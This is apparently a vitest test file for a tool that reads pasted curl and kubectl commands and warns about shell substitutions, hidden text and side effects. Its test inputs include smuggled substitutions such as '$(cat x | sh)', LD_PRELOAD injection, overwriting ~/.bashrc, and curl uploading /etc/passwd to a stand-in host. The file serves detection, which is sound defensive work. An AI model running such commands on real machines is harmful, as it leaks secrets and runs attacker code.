import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { printCurl, readCurl } from '../curl/index.ts'
import type { HTTPRequest } from '../http/index.ts'
import { printKubectl, readKubectl } from '../kubectl/index.ts'

const URL = 'https://localhost:6443/api/v1/pods'

/** Each problem, with its range in the text. */
function problems(text: string): readonly string[] {
  const read = /\bkubectl\b/.test(text) ? readKubectl(text) : readCurl(text)
  return read.diagnostics.map(({ severity, message, range }) => {
    return `${severity} ${text.slice(range.start, range.end)}: ${message}`
  })
}

/** What the notes say of a command after “Where this command is run,”, each with its range. */
function effects(text: string): readonly string[] {
  return problems(text)
    .filter((one) => one.includes('Where this command is run, '))
    .map((one) => one.replace('note ', '').replace('Where this command is run, ', ''))
}

describe('a substitution', () => {
  it.each([
    ['in a credential', `curl ${URL} -H "Authorization: Bearer $(cat x | sh)"`, '$(cat x | sh)'],
    ['in the server of a URL', 'curl "https://`id`/api/v1/pods"', '`id`'],
    ['in an output', `curl ${URL} -o "$(id)"`, '$(id)'],
    ['in a format', `curl ${URL} -w \`id\``, '`id`'],
    ['in a flag without effect', 'kubectl get pods --token=$(id)', '$(id)'],
    ['in a variable that is set', 'X=$(id) kubectl get pods', '$(id)'],
    ['in a value by default', `kubectl get pods --context \${X:-$(id)}`, `\${X:-$(id)}`],
    ['that sets a variable', `kubectl get pods --context \${X:=y}`, `\${X:=y}`],
    ['that expands a prompt', `kubectl get pods --context \${X@P}`, `\${X@P}`],
    ['in the name of a file', 'kubectl get pods > $(id)', '$(id)'],
    ['in a text that is not read', 'kubectl get pods <<EOF\na: $(id)\nEOF', '$(id)'],
    ['of a process', 'kubectl get pods -n prod <(id)', '<(id)'],
    ['of a process that reads', 'kubectl get pods -n prod > >(sh -c "id")', '>(sh -c "id")'],
  ])('%s is an error, because nobody knows its value', (_, text, found) => {
    expect(problems(text).filter((one) => one.startsWith('error'))).toContain(
      `error ${found}: Your shell would compute "${found.replaceAll('"', '\\"')}"; the playground runs nothing.`,
    )
  })

  it('is not what only looks like one', () => {
    for (const text of [
      `kubectl get pods -o jsonpath='{.items[?(@.spec.x=="$(id)")]}'`,
      `kubectl get pods -o 'go-template={{range $i, $x := .items}}\`{{end}}'`,
      'kubectl get pods --token=$TOKEN -o "custom-columns=A:.x\\$(y)"',
      `curl "$APISERVER/api/v1/pods" -H "Authorization: Bearer $TOKEN" --cacert \${CA:-/ca.crt}`,
      "kubectl create -f - <<'EOF'\n# $(id)\nkind: Namespace\napiVersion: v1\nmetadata: {name: a}\nEOF",
    ]) {
      expect(problems(text).filter((one) => one.startsWith('error'))).toEqual([])
      expect(effects(text)).toEqual([])
    }
  })
})

describe('a command says what it does where it is run', () => {
  it('before the program', () => {
    expect(effects('LD_PRELOAD=/e.so KUBECONFIG=/e HTTPS_PROXY=e X=1 sudo env -i /e/kubectl get pods')).toEqual([
      'LD_PRELOAD=/e.so: LD_PRELOAD loads code from "/e.so" into the program.',
      'KUBECONFIG=/e: KUBECONFIG reads the file "/e", which can name another server and programs to run for credentials.',
      'HTTPS_PROXY=e: HTTPS_PROXY sends the request by way of "e".',
      'X=1: X is "1" for the program.',
      'sudo: "sudo" runs it as root or as another user.',
      'env -i: "env -i" runs it.',
      '/e/kubectl: "/e/kubectl" is the program, which may be any other.',
    ])
    expect(effects('./kubectl get pods')).toEqual(['./kubectl: "./kubectl" is the program, which may be any other.'])
    expect(effects(`PATH=. ../curl ${URL}`)).toHaveLength(2)
    expect(effects('me@host:~$ kubectl get pods')).toHaveLength(1)
    for (const text of ['/usr/local/bin/kubectl get pods', 'time kubectl get pods', '$ kubectl get pods'])
      expect(effects(text)).toEqual([])
  })

  it.each([
    ['-o ~/.bashrc', '--output writes the file "~/.bashrc".'],
    ['-O', '--remote-name writes a file that the URL names.'],
    ['-D h', '--dump-header writes the file "h".'],
    ['-c jar', '--cookie-jar writes the file "jar".'],
    ['-b jar', '--cookie reads the file "jar".'],
    ['-x http://e', '--proxy sends the request by way of "http://e".'],
    ["-w '%output{/x}'", '--write-out writes the file "/x".'],
    ['-w @/x', '--write-out reads the file "/x".'],
    ['--resolve h:443:e', '--resolve sends the request to "h:443:e".'],
    ['--connect-to ::e:443', '--connect-to sends the request to "::e:443".'],
    ['--unix-socket /s', '--unix-socket sends the request to "/s".'],
  ])('in an option of curl: %s', (option, words) => {
    expect(effects(`curl ${URL} ${option}`)).toEqual([`${option}: ${words}`])
  })

  it('where curl sends a file, with the server', () => {
    for (const option of ['-T /etc/passwd', '-F a=@/etc/passwd', '-d @/etc/passwd', '--data-urlencode a@/etc/passwd'])
      expect(problems(`curl https://me@e.example:1/x ${option}`).at(-1)).toMatch(
        /empty here; no check reads it. Where this command is run, a file of that machine is sent to "e.example:1".$/,
      )
    expect(problems(`curl ${URL} -F a=b`)).toEqual([
      'note -F a=b: The data of --form is empty here; no check reads it.',
    ])
  })

  it('in a flag of kubectl', () => {
    expect(effects('kubectl get pods --kubeconfig e -s https://e --cache-dir d --kuberc k')).toEqual([
      '--kubeconfig e: --kubeconfig reads the file "e", which can name another server and programs to run for credentials.',
      '-s https://e: --server sends the request and its credentials to "https://e".',
      '--cache-dir d: --cache-dir writes files into "d".',
      '--kuberc k: --kuberc reads settings of the program from "k".',
    ])
  })

  it('in a redirection, a pipe and a comment', () => {
    expect(problems('kubectl get pods -A > ~/.bashrc')).toEqual([
      'note > ~/.bashrc: No request depends on "> ~/.bashrc". Where this command is run, it writes the file "~/.bashrc".',
    ])
    expect(effects('kubectl get pods 2>&1 > /dev/null | grep web')).toEqual([])
    expect(effects(`kubectl get pods -o json | jq '.items[] | .x' | head`)).toEqual([])
    expect(effects('kubectl get pods | tee x')[0]).toMatch(/so is "\| tee x"\.$/)
    expect(effects('kubectl get pods | grep x > y')).toHaveLength(1)
    expect(problems('kubectl get pods -A # $(id)')[0]).toMatch(/^note # \$\(id\): Where this line is typed in zsh/)
    expect(problems('kubectl get pods -A # all of them')).toEqual([])
  })
})

describe('text out of sight', () => {
  it('is noted after many empty lines or blanks', () => {
    expect(problems(`curl ${URL} ${'\\\n'.repeat(60)} -k`)).toEqual([
      'note  -k: The text goes on here, after 59 empty lines.',
    ])
    expect(problems(`curl ${URL} ${' '.repeat(400)}-k`)).toEqual(['note -k: The text goes on here, after 401 blanks.'])
    expect(problems(`curl ${URL} \\\n\n`)).toEqual([])
  })
})

it('a carriage return inside a line is a part of its word, as for bash', () => {
  expect(problems('kubectl get pods -n prod\rid')).toEqual([expect.stringMatching(/^error \r: The control character/)])
  expect(problems('kubectl get pods \\\r\n -n prod\r\n')).toEqual([])
})

it('what the page prints of any request is never refused or noted', () => {
  const hostile = fc
    .array(
      fc.constantFrom(
        '$(id)',
        '`id`',
        `\${X:=y}`,
        "'",
        '"',
        '\\',
        '\n',
        '\r',
        ' ',
        ';',
        '|',
        '&',
        '>',
        '<(',
        '#',
        '!',
        'EOF',
        '-o',
        '@f',
        '%output{x}',
        '\u202e',
        'a',
      ),
      { maxLength: 6 },
    )
    .map((parts) => parts.join(''))
  const path = fc.oneof(
    fc.constantFrom(
      '/api/v1/namespaces/a/pods',
      '/api/v1/namespaces/a/secrets/x',
      '/apis/apps/v1/namespaces/a/deployments',
    ),
    hostile.map((text) => `/${encodeURIComponent(text)}`),
    hostile.map((text) => `/api/v1/namespaces/${text}/pods`),
  )
  const requests: fc.Arbitrary<HTTPRequest> = fc.record({
    method: fc.constantFrom('GET', 'POST', 'DELETE', 'PUT', 'PATCH', 'HEAD'),
    target: path,
    headers: fc.array(
      fc.record({
        name: fc.constantFrom('Impersonate-User', 'Impersonate-Group', 'Impersonate-Extra-a', 'Authorization', 'X-a'),
        value: hostile,
      }),
      { maxLength: 3 },
    ),
    body: fc.oneof(fc.constant(''), hostile),
  })
  const refused = (text: string, read: ReturnType<typeof readCurl>): readonly string[] =>
    read.diagnostics
      .filter(({ severity, code }) => severity === 'error' || code === 'side-effect' || code.startsWith('shell-'))
      .map(({ message }) => `${text}\n${message}`)
  fc.assert(
    fc.property(requests, (request) => {
      const curl = printCurl(request)
      if (curl.gap === undefined) expect(refused(curl.text, readCurl(curl.text))).toEqual([])
      const kubectl = printKubectl(request)
      if (kubectl.gap === undefined) expect(refused(kubectl.text, readKubectl(kubectl.text))).toEqual([])
    }),
    { numRuns: 500 },
  )
})
